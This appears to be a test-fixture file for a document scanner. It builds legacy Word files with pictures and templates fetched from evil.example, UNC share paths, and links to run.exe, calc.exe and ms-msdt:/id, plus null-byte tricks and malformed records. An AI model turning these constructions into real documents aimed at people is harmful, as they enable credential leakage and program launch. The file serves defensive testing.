import { compoundFile } from '../../../support/compound-file';
import { docxFile, relationshipsOf } from '../../../support/docx';
import { hyperlink } from '../../../support/ole';
import {
  drawing,
  linkOfShape,
  namedPicture,
  packedShape,
  placedAt,
  shape,
  shapeProperties,
  wideName,
} from '../../../support/word-pictures';
import { oldWordFile, textStart, wordFile, wordStreams } from '../../../support/word97';
import { type Hostile, hostileFile } from './hostile';

const hostile = hostileFile('doc');

const address = 'http://evil.example/x.png';
const share = '\\\\evil.example\\share\\x.png';
const withData = (Data: Buffer, drawings?: Buffer) => wordFile({ text: 'CV', drawings }, { Data });

/** Where the text of a small document of Word 6 begins. */
const oldText = 768;

const named: Hostile[] = [
  ...[94, 98, 99, 102].map((kind) =>
    hostile(
      `with a picture of kind ${kind} from elsewhere`,
      withData(namedPicture(address, kind)),
      'from another computer',
    ),
  ),
  ...[share, '//evil.example/x', 'file://evil.example/x', 'smb://evil.example/x', 'server/x.png', 'evil.example'].map(
    (name) => hostile(`with a picture whose file is ${name}`, withData(namedPicture(name)), 'from another computer'),
  ),
  hostile(
    'with such a picture behind others',
    withData(Buffer.concat([Buffer.alloc(77, 1), namedPicture(address)])),
    'from another computer',
  ),
  hostile(
    'with such a picture whose head has another size',
    withData(namedPicture(address, 94, 99), placedAt(0)),
    'from another computer',
  ),
  hostile(
    'with such a picture that is placed within the data',
    withData(Buffer.concat([placedAt(6), namedPicture(address, 94, 200)])),
    'from another computer',
  ),
  hostile('with such a picture among its text', amongText(), 'from another computer'),
  hostile(
    'of Word 6 with such a picture',
    oldWordFile(`CV${namedPicture(address).toString('latin1')}`),
    'from another computer',
  ),
  hostile('of Word 6 with such a picture whose head has another size', oldWithOddHead(), 'from another computer'),
];

/** Without a stream of data, programs look for pictures in that of the text, and only then. */
export function amongText(others: Record<string, Buffer> = {}): Buffer {
  const { WordDocument = Buffer.alloc(0), ...rest } = wordStreams({ text: 'CV', drawings: placedAt(textStart + 2) });
  return compoundFile({
    WordDocument: Buffer.concat([WordDocument, namedPicture(address, 94, 80)]),
    ...rest,
    ...others,
  });
}

function oldWithOddHead(): Buffer {
  const property = Buffer.from([0x44, 4, 0, 0, 0, 0]);
  property.writeUInt32LE(oldText + property.length, 2);
  return oldWordFile(Buffer.concat([property, namedPicture(address, 94, 120)]).toString('latin1'));
}

const { picture, name, purpose, fillName, fillPurpose } = shapeProperties;

/** A shape whose picture is named, and what the name is said to be for. */
const linked = (source: string, flags: number) =>
  shape([
    [name, wideName(source)],
    [purpose, flags],
  ]);

const fetched: Hostile[] = [
  ...[2, 4, 8, 9, 10].flatMap((flags) => [
    hostile(
      `with a drawing whose picture is elsewhere, flags ${flags}`,
      wordFile({ text: 'CV', drawings: drawing(linked(address, flags)) }),
      'from another computer',
    ),
    hostile(
      `with a drawing in a line whose picture is on a server, flags ${flags}`,
      withData(linked(share, flags)),
      'from another computer',
    ),
  ]),
  hostile(
    'with a drawing whose picture is carried, and fetched once more',
    withData(
      shape([
        [picture, 1],
        [name, wideName(share)],
        [purpose, 9],
      ]),
    ),
    'from another computer',
  ),
  hostile(
    'with a drawing that says twice what its name is for',
    withData(
      shape([
        [name, wideName(address)],
        [purpose, 8],
        [purpose, 0],
      ]),
    ),
    'from another computer',
  ),
  hostile(
    'with a drawing that a picture from elsewhere fills',
    withData(
      shape([
        [fillName, wideName(address)],
        [fillPurpose, 10],
      ]),
    ),
    'from another computer',
  ),
  ...[{ version: 0 }, { size: 6 }, { size: 0x7fffffff }].map((head, index) =>
    hostile(
      `with such a drawing whose record is none, ${index}`,
      withData(
        shape(
          [
            [name, wideName(address)],
            [purpose, 8],
          ],
          head,
        ),
      ),
      'from another computer',
    ),
  ),
  hostile('with drawings that share their bytes', withData(overlapping()), 'damaged'),
  hostile(
    'with a shape that is a package with a template from elsewhere',
    withData(shape([[packedShape, templated()]])),
    'fetched',
  ),
];

/** Records of properties, each of which has most of the others within it. */
function overlapping(): Buffer {
  const head = shape([]);
  head.writeUInt16LE(0xfff3, 0);
  head.writeUInt32LE(24_570, 4);
  return Buffer.concat([...Array(3_000).fill(head), Buffer.alloc(24_570)]);
}

function templated(): Buffer {
  return docxFile({
    'word/_rels/document.xml.rels': relationshipsOf([['attachedTemplate', 'http://evil.example/x.dotm', 'External']]),
  });
}

const programs = ['\\\\evil.example\\share\\run.exe', 'ms-msdt:/id', 'file://evil.example/share/x'];

const links: Hostile[] = [
  ...programs.flatMap((target) => [
    hostile(
      `with a drawing that links to ${target}`,
      wordFile({ text: 'CV', drawings: drawing(shape([[linkOfShape, hyperlink(target)]])) }),
      'leads to a program',
    ),
    hostile(
      `with a drawing in a line that links to ${target}`,
      withData(shape([[linkOfShape, hyperlink(target, { of: '00'.repeat(16) })]])),
      'leads to a program',
    ),
    hostile(`with a field whose own link is to ${target}`, withData(hyperlink(target)), 'leads to a program'),
    hostile(`with a text for a link to ${target}`, withData(hyperlink(target, { flags: 0x103 })), 'leads to a program'),
  ]),
  hostile('with a field whose own link is to run.exe', withData(hyperlink('run.exe')), 'a link to a program'),
  hostile(
    'with a link of an unknown kind',
    withData(Buffer.concat([hyperlink('https://example.com').subarray(0, 24), Buffer.alloc(20, 7)])),
    'unknown kind',
  ),
  // Behind a zero LibreOffice reads on, and others do not.
  ...[{}, { flags: 0x103 }, { behind: Buffer.from('a'.repeat(24)) }].map((how, index) =>
    hostile(
      `with a link with a zero in it, ${index}`,
      withData(hyperlink(`https://example.com/a.htm${'behind' in how ? '' : '\0/../..//evil.example/a'}`, how)),
      'damaged',
    ),
  ),
  hostile('with a file with a zero in its name', withData(hyperlink('a.htm\0\\..\\calc.exe')), 'damaged'),
  hostile('with a link whose title is not there', withData(hyperlink('https://x.com', { flags: 7 })), 'damaged'),
  hostile('with a link that does not end', withData(hyperlink('https://x.com').subarray(0, 50)), 'damaged'),
];

/** Pictures that are fetched, and links, in drawings and beside fields of a Word document before 2007. */
/** A list, the name of a picture and what it is for, where programs differ in where the name begins. */
const misplacedName = (list: number, length: number, head: Buffer) => {
  const name = Buffer.from('http://evil.example/a.png\0', 'utf16le');
  const properties = [
    [list | 0x8000, length],
    [0xc105, name.length],
    [0x106, 10],
  ].map(([id = 0, value = 0]) => {
    const property = Buffer.alloc(6);
    property.writeUInt16LE(id);
    property.writeUInt32LE(value, 2);
    return property;
  });
  const content = Buffer.concat([...properties, head, name]);
  const record = Buffer.alloc(8);
  record.writeUInt16LE((properties.length << 4) | 3);
  record.writeUInt16LE(0xf00b, 2);
  record.writeUInt32LE(content.length, 4);
  return Buffer.concat([record, content]);
};

const misplaced: Hostile[] = [
  ...[0x145, 0x146, 0x197, 0x383].map((list): [string, Buffer] => [
    `a list ${list} without its head`,
    misplacedName(list, 8, Buffer.from([2, 0, 2, 0, 4, 0, ...Buffer.alloc(8)])),
  ]),
  ...[300, 0x100000, 0x7fffffff].map((length): [string, Buffer] => [
    `a text of ${length} bytes`,
    misplacedName(0x81, length, Buffer.alloc(0)),
  ]),
].map(([what, drawings]) =>
  hostile(`with a picture named behind ${what}`, wordFile({ text: 'CV', drawings }), 'from another computer'),
);

export const hostilePictures: Hostile[] = [...named, ...misplaced, ...fetched, ...links];
